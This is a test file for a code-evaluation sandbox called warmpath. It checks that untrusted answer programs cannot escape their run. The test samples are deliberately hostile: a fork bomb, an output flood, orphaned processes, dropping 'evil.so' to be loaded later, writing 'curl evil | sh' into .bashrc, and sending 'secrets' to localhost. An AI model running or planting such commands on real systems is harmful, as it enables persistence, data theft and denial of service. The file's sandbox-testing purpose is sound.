"""`warmpath eval` runs the target's code: each way an answer could reach past its run is tried
here. Children it leaves behind die with it, $WARMPATH_HOME and the user's files stay unwritten, a
flood of output is a failure (not the evaluator's memory), 127.0.0.1 is out of reach, a fork bomb
stops at RLIMIT_NPROC, a CPU spin at RLIMIT_CPU; and the sandbox says what it could not isolate.
Where the kernel refuses namespaces to this user, the tests that need them are skipped, saying
so."""

from __future__ import annotations

import os
import resource
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import pytest

from warmpath.eval.execute import passes

# The sandbox's namespaces, asked of the kernel directly (root needs no user namespace; anyone else
# does).
UNSHARE = ("import ctypes, os, sys\n"
           "flags = 0x20000 | 0x40000000 | 0x20000000 | (0 if os.geteuid() == 0 else 0x10000000)\n"
           "sys.exit(ctypes.CDLL(None, use_errno=True).unshare(flags) != 0)\n")
NAMESPACES = subprocess.run([sys.executable, "-c", UNSHARE]).returncode == 0
needs_namespaces = pytest.mark.skipif(
    not NAMESPACES, reason="this kernel refuses this user new namespaces "
    "(unshare): the sandbox runs without them, and says so")


def leftovers(token: str, within_s: float = 2.0) -> list[int]:
    """Processes whose command line holds `token`, once those dying have had `within_s` to go;
    killed, returned."""
    deadline = time.monotonic() + within_s
    while True:
        found = []
        for proc in Path("/proc").iterdir():
            try:
                if proc.name.isdigit() and token.encode() in (proc / "cmdline").read_bytes():
                    found.append(int(proc.name))
            except OSError:
                pass
        if not found or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    for pid in found:  # no stray left for the tests after this one, whatever happened here
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return found


@pytest.fixture
def token():
    """A mark for an answer's command line, its processes killed after the test whatever happened in
    it."""
    mark = uuid.uuid4().hex
    yield mark
    leftovers(mark, within_s=0)


@pytest.fixture
def shared():
    """A directory anyone may write (so only the sandbox, not the permissions, keeps an answer out
    of it)."""
    path = Path(tempfile.mkdtemp(prefix="warmpath-test-"))
    for p in (path, path / "wp", path / "home"):
        p.mkdir(exist_ok=True)
        p.chmod(0o777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.mark.parametrize("leave", ["group", pytest.param("session", marks=needs_namespaces)])
@pytest.mark.parametrize("end", ["exits", "hangs"])
def test_children_an_answer_leaves_die_with_it(end, leave, token):
    program = (f"import os, sys, time  # {token}\n"
               "if os.fork() == 0:\n"
               f"    {'os.setsid()' if leave == 'session' else 'pass'}\n"
               "    os.closerange(0, 3)  # not holding the evaluator's pipes\n"
               "    time.sleep(30)\n"
               "    os._exit(0)\n"
               f"{'sys.exit(0)' if end == 'exits' else 'time.sleep(30)'}\n")
    assert passes(program, timeout_s=1.0) is (end == "exits")
    assert leftovers(token) == []


def test_an_answer_finds_no_home_but_its_scratch_directory(shared, monkeypatch):
    monkeypatch.setenv("WARMPATH_HOME", str(shared / "wp"))
    monkeypatch.setenv("HOME", str(shared / "home"))
    program = (
        "import os, pathlib\n"
        "for base in (os.environ['WARMPATH_HOME'], os.path.expanduser('~/.cache/warmpath')):\n"
        "    kernels = pathlib.Path(base, 'kernels')\n"
        "    kernels.mkdir(parents=True, exist_ok=True)\n"
        "    (kernels / 'evil.so').write_text('loaded by the next warmpath serve')\n")
    assert passes(program)  # it wrote them: into its scratch directory
    assert sorted(p.name for p in shared.rglob("*")) == ["home", "wp"]


@needs_namespaces
def test_an_answer_cannot_write_warmpath_home_or_home_by_their_paths(shared, monkeypatch):
    monkeypatch.setenv("WARMPATH_HOME", str(shared / "wp"))
    monkeypatch.setenv("HOME", str(shared / "home"))
    program = (f"import pathlib\n"
               f"pathlib.Path({str(shared / 'wp' / 'kernels')!r}).mkdir()\n"
               f"pathlib.Path({str(shared / 'home' / '.bashrc')!r}).write_text('curl evil | sh')\n")
    assert not passes(program)
    assert sorted(p.name for p in shared.rglob("*")) == ["home", "wp"]


def test_a_flood_of_output_fails_the_run_and_not_the_evaluator():
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB
    started = time.monotonic()
    assert not passes("import sys\nfor _ in range(1024):\n    sys.stdout.write('x' * (1 << 20))\n",
                      timeout_s=30)
    assert time.monotonic() - started < 10  # stopped at the cap, not after the whole GiB
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100 << 10


@needs_namespaces
def test_an_answer_cannot_connect_to_localhost():
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        port = listener.getsockname()[1]
        program = ("import socket\n"
                   f"socket.create_connection(('127.0.0.1', {port}), timeout=2)"
                   ".sendall(b'secrets')\n")
        assert not passes(program, timeout_s=5)
        with pytest.raises(BlockingIOError):  # no connection ever came
            listener.accept()


@pytest.mark.skipif(
    os.geteuid() == 0 and not NAMESPACES,
    reason="root without namespaces cannot be made nobody here: RLIMIT_NPROC does not bind root")
def test_a_fork_bomb_stops_at_rlimit_nproc(token):
    program = (f"import os, time  # {token}\n"
               "for _ in range(200):\n"
               "    if os.fork() == 0:\n"
               "        os.closerange(0, 3)\n"
               "        time.sleep(30)\n"
               "        os._exit(0)\n")
    assert not passes(program, timeout_s=5)  # a fork failed (EAGAIN) before the 200th
    assert leftovers(token) == []


def test_a_cpu_spin_stops_at_rlimit_cpu_before_the_timeout():
    from warmpath.eval.sandbox import Limits, run_python

    started = time.monotonic()
    outcome = run_python("while True:\n    pass\n", Limits(timeout_s=30, cpu_s=1))
    assert (not outcome.passed and not outcome.timed_out
            and outcome.returncode == 128 + signal.SIGKILL)
    assert time.monotonic() - started < 10


def test_the_sandbox_says_what_it_isolates_and_works_in_a_scratch_directory():
    from warmpath.eval.sandbox import run_python

    outcome = run_python("import os\nprint(os.getcwd())\n")
    isolation = outcome.isolation
    assert outcome.passed and (isolation.network, isolation.processes) == (NAMESPACES, NAMESPACES)
    assert ("NOT isolated" in isolation.describe()) is not all(
        (isolation.network, isolation.processes, isolation.files, isolation.unprivileged))
    scratch = outcome.output.decode().strip()
    # removed after
    assert Path(scratch).name.startswith("warmpath-eval-") and not Path(scratch).exists()


def test_a_sandbox_that_cannot_start_the_answer_raises(monkeypatch):
    from warmpath.eval.sandbox import SandboxError, run_python

    monkeypatch.setattr(sys, "_base_executable", "/nonexistent/python", raising=False)
    with pytest.raises(SandboxError, match="cannot start the answer"):
        run_python("pass")
